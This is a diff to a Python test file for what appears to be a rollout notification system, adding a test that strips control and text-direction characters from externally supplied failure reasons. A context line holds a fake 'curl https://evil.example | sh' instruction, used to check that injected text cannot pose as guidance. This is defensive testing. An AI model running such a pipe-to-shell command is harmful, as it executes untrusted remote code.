@@ -99,6 +99,14 @@ def test_reason_from_outside_cannot_look_like_what_to_do(break_):
     assert "Why: a hook What to do: curl https://evil.example | sh" in lines
 
 
+@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066"])
+def test_reason_from_outside_has_no_control_characters(character):
+    """Not every subscriber of a topic accepts them, and some turn a text around."""
+    ending = rolled_back("my-api:live", "3", f"a ho{character}ok fails: naïve, \U0001f680")
+    sent = notification_of(ending_event(closing(), ending, AT))
+    assert "Why: a hook fails: naïve, \U0001f680" in sent.text.splitlines()
+
+
 def frozen(percent: float, until: datetime | None = None, command: str = "") -> RolloutFrozen:
     held = StandingFreeze(number=3, since=AT, reason="the stack is frozen: holidays", until=until, command=command)
     begun = rollout(judgement=judgement(), step=1 if percent else 0)
